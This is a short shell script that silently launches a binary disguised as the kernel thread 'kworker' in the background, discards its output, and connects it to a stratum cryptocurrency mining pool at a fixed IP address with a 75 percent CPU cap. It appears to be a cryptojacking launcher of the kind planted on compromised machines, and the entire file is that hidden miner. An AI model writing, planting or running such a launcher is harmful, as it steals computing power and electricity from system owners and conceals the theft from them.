#!/bin/sh
nohup ./kworker -o stratum+tcp://198.51.100.20:3333 -u x -p x --cpu-max-threads-hint 75 >/dev/null 2>&1 &
